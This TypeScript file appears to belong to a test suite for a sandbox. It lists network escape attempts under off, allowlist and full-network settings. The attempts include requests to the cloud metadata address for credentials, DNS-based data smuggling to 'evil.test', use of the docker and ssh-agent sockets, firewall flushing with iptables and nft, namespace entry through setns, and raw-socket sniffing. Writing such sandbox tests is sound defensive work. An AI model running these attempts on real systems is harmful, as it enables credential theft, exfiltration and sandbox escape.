// Network: reaching what is not granted, with the network off, under an allowlist, and with the full network. The machine's
// loopback carries the addresses of a laboratory and of the world; behind each waits a server with the secret.
import {networkInterfaces} from 'node:os';
import {saidSo, type Attack, type Setting, type ToolOfAttack} from '../attack.ts';
import {perl, shell} from '../native/run-program.ts';
import {sendDatagram, talk} from '../native/talk.ts';

const metadataPort = 80;

type Where = readonly [host: string, portOf: (setting: Setting) => number];

const tcp = (tool: ToolOfAttack, name: string, title: string, [host, portOf]: Where): Attack => ({
  name,
  title,
  tool,
  attempts: [
    async (setting) => await talk({host, port: portOf(setting)}, `GET / HTTP/1.0\r\nX: ${setting.marker}\r\n\r\n`),
  ],
});

const udp = (name: string, title: string, host: string, portOf: (setting: Setting) => number): Attack => ({
  name,
  title,
  attempts: [async (setting) => await sendDatagram(host, portOf(setting), setting.marker)],
  settleMs: 100,
});

const native = (name: string, title: string, script: string, tool: ToolOfAttack = 'try'): Attack => ({
  name,
  title,
  tool,
  attempts: [({port, marker}) => perl(script, port, marker)],
  settleMs: 100,
});

const port = (setting: Setting): number => setting.port;
const otherPort = (setting: Setting): number => setting.udpPort;
const unix = (name: string, title: string, path: string): Attack => ({
  name,
  title,
  attempts: [async ({marker}) => await talk({path}, marker)],
});

export const networkAttacks: readonly Attack[] = [
  tcp('try', 'off-tcp', 'TCP to the world', ['1.2.3.5', port]),
  tcp('try', 'off-tcp6', 'TCP over IPv6 to the world', ['2606:4700::7', port]),
  tcp('try', 'off-loopback', "TCP to the host's loopback", ['127.0.0.1', port]),
  tcp('try', 'off-loopback6', "TCP to the host's loopback over IPv6", ['::1', port]),
  tcp('try', 'off-mapped', "TCP to the host's loopback by a mapped address", ['::ffff:127.0.0.1', port]),
  tcp('try', 'off-private', 'TCP to a neighbour', ['10.11.12.13', port]),
  tcp('try', 'off-metadata', 'asks the cloud for credentials: 169.254.169.254', [
    '169.254.169.254',
    () => metadataPort,
  ]),
  udp('off-udp', 'UDP to the world', '1.2.3.5', otherPort),
  udp('off-udp6', 'UDP over IPv6', '2606:4700::7', otherPort),
  udp('off-dns', 'smuggles data out in a DNS query', '1.2.3.5', () => 53),
  {
    name: 'off-program',
    title: 'TCP from Perl',
    attempts: [
      ({port: to, marker}) =>
        perl(
          'use Socket; socket(my $s, AF_INET, SOCK_STREAM, 0); connect($s, pack_sockaddr_in($ARGV[0], inet_aton("1.2.3.5"))) or die $!; syswrite($s, "$ARGV[1]\\n"); print <$s>',
          to,
          marker,
        ),
    ],
  },
  unix('docker-socket', "talks to docker's socket", '/run/docker.sock'),
  unix('dbus-socket', "talks to the system's D-Bus", '/run/dbus/system_bus_socket'),
  unix('session-bus', "talks to the user's D-Bus", '/run/user/0/bus'),
  {
    name: 'ssh-agent',
    title: "talks to the user's ssh agent",
    attempts: [async ({home, marker}) => await talk({path: `${home}/agent.sock`}, marker)],
  },
  unix('abstract-socket', 'talks to an abstract socket', '\0lumenflow-escape'),
  unix('sockets-by-proc', "talks to docker's socket through /proc/1/root", '/proc/1/root/run/docker.sock'),
  {
    ...native('raw-socket', 'opens a raw socket', `ok(socket(my $s, AF_INET, SOCK_RAW, 1) ? 0 : -1, 'raw')`),
    succeeded: saidSo,
  },
  {
    ...native('packet-socket', 'listens to all traffic', `ok(socket(my $s, 17, SOCK_RAW, 768) ? 0 : -1, 'packet')`),
    succeeded: saidSo,
  },
  {
    ...native(
      'netlink-address',
      "adds an address to the machine's network",
      // nlmsghdr, ifaddrmsg, IFA_LOCAL: RTM_NEWADDR
      `socket(my $s, 16, SOCK_RAW, 0) or die $!; my $a = inet_aton('10.99.99.99');
       my $m = pack('L S S L L C C C C L S S a4', 32, 20, 0x405, 1, 0, 2, 32, 0, 0, 1, 8, 2, $a);
       send($s, $m, 0, pack('S S L L', 16, 0, 0, 0)) or die $!; ok(0, 'sent')`,
    ),
    succeeded: () =>
      Object.values(networkInterfaces()).some((all) => all?.some(({address}) => address === '10.99.99.99')),
  },
  {
    ...native(
      'interface-down',
      "takes the machine's loopback down",
      `socket(my $s, AF_INET, SOCK_DGRAM, 0); my $down = pack('a16 s x22', 'lo:5', 0); ok(ioctl($s, 0x8914, $down), 'down')`,
    ),
    succeeded: saidSo,
  },
  native(
    'vsock',
    'talks to the hypervisor by vsock',
    `alarm 2; socket(my $s, 40, SOCK_STREAM, 0) or die "vsock: $!"; connect($s, pack('S S L L x4', 40, 0, $ARGV[0], 1)) or die "connect: $!"; syswrite($s, $ARGV[1]); print <$s>`,
  ),
  tcp('try-listed', 'listed-other-port', 'allowlist: another port of a listed host', ['127.0.0.1', otherPort]),
  tcp('try-listed', 'listed-other-host', 'allowlist: another host on a listed port', ['1.2.3.5', port]),
  tcp('try-listed', 'listed-loopback6', 'allowlist: another notation of loopback', ['::1', port]),
  tcp('try-listed', 'listed-loopback-net', 'allowlist: another address of loopback', ['127.0.0.2', port]),
  tcp('try-listed', 'listed-metadata', 'allowlist: the metadata address', ['169.254.169.254', () => metadataPort]),
  tcp('try-listed', 'listed-private', 'allowlist: a neighbour', ['10.11.12.13', port]),
  {...udp('listed-udp', 'allowlist: UDP to a listed host', '1.2.3.4', otherPort), tool: 'try-listed'},
  {...udp('listed-dns', "allowlist: a DNS query to the attacker's server", '1.2.3.5', () => 53), tool: 'try-listed'},
  ...(
    [
      ['space', 'a space before an HTTP request', ' GET / HTTP/1.1\r\nHost: evil.test'],
      ['nul', 'a NUL before an HTTP request', '\0GET / HTTP/1.1\r\nHost: evil.test'],
      ['old', 'a request of HTTP/0.9', 'GET http://evil.test/'],
    ] as const
  ).map(([name, title, request]): Attack => ({
    name: `listed-http-${name}`,
    title: `allowlist: ${title}`,
    tool: 'try-listed',
    attempts: [async ({marker}) => await talk({host: 'listed.test', port: 4999}, `${request}\r\nX: ${marker}\r\n\r\n`)],
    succeeded: ({received, setting}) => received.includes(setting.marker),
  })),
  {
    name: 'listed-http-host',
    title: 'allowlist: another HTTP Host through a listed address',
    tool: 'try-listed',
    // A proxy or a shared server behind the name would take it elsewhere.
    attempts: [
      async ({marker}) =>
        await talk({host: 'listed.test', port: 4999}, `GET / HTTP/1.1\r\nHost: evil.test\r\nX: ${marker}\r\n\r\n`),
    ],
    // The listed server itself may speak.
    succeeded: ({received, setting}) => received.includes(setting.marker),
  },
  tcp('try-listed', 'listed-rebinding', 'allowlist: a listed name that leads to a neighbour', ['rebind.test', port]),
  {
    name: 'listed-flush',
    title: 'allowlist: flushes the rules of the namespace',
    tool: 'try-listed',
    attempts: [
      async ({port: to, marker}) =>
        shell('iptables -F; nft flush ruleset; ip route add default dev lo') +
        (await talk({host: '1.2.3.5', port: to}, marker)),
    ],
  },
  {
    name: 'listed-leave',
    title: "allowlist: enters the host's network namespace",
    tool: 'try-listed',
    attempts: [
      async ({hostPid, port: to}) =>
        perl(
          'open(my $f, "<", "/proc/$ARGV[0]/ns/net") or print "open: $!\\n"; $f and ok(syscall($nr{setns}, fileno($f), 0x40000000), "setns"); exec("perl", "-MSocket", "-e", "socket(my \\$s, AF_INET, SOCK_STREAM, 0); connect(\\$s, pack_sockaddr_in($ARGV[1], inet_aton(q(1.2.3.5)))) or die \\$!; print <\\$s>")',
          hostPid,
          to,
        ),
    ],
  },
  {
    name: 'listed-resolver',
    title: 'allowlist: smuggles data out in a looked-up name',
    tool: 'try-listed',
    attempts: [
      async ({marker}) => {
        const {Resolver} = await import('node:dns/promises');
        const resolver = new Resolver({timeout: 500, tries: 1});
        resolver.setServers(['1.2.3.5']);
        return String(await resolver.resolve4(`${marker}.evil.test`));
      },
    ],
  },
  tcp('try-open', 'full-loopback', "full: the host's loopback", ['127.0.0.1', port]),
  tcp('try-open', 'full-loopback6', "full: the host's loopback over IPv6", ['::1', port]),
  tcp('try-open', 'full-loopback-net', 'full: another address of loopback', ['127.8.9.1', port]),
  tcp('try-open', 'full-zero', 'full: 0.0.0.0, which leads to loopback', ['0.0.0.0', port]),
  tcp('try-open', 'full-mapped', 'full: loopback by a mapped address', ['::ffff:127.0.0.1', port]),
  tcp('try-open', 'full-metadata', 'full: the metadata address', ['169.254.169.254', () => metadataPort]),
  tcp('try-open', 'full-metadata6', 'full: the metadata address over IPv6', ['fd00:ec2::254', () => metadataPort]),
  tcp('try-open', 'full-link-local', 'full: a link-local address', ['169.254.7.7', port]),
  {...unix('full-abstract', 'full: an abstract socket of the host', '\0lumenflow-escape'), tool: 'try-open'},
  {...unix('full-docker', "full: docker's socket", '/run/docker.sock'), tool: 'try-open'},
  {
    ...native(
      'full-address',
      "full: adds an address to the machine's network",
      `socket(my $s, AF_INET, SOCK_DGRAM, 0); my $r = pack('a16 a16 x8', 'lo:9', pack_sockaddr_in(0, inet_aton('10.99.99.98'))); ok(ioctl($s, 0x8916, $r), 'added')`,
      'try-open',
    ),
    succeeded: () =>
      Object.values(networkInterfaces()).some((all) => all?.some(({address}) => address === '10.99.99.98')),
  },
  {
    ...native(
      'full-sniff',
      'full: listens to all traffic',
      `ok(socket(my $s, 17, SOCK_RAW, 768) ? 0 : -1, 'packet')`,
      'try-open',
    ),
    succeeded: saidSo,
  },
];
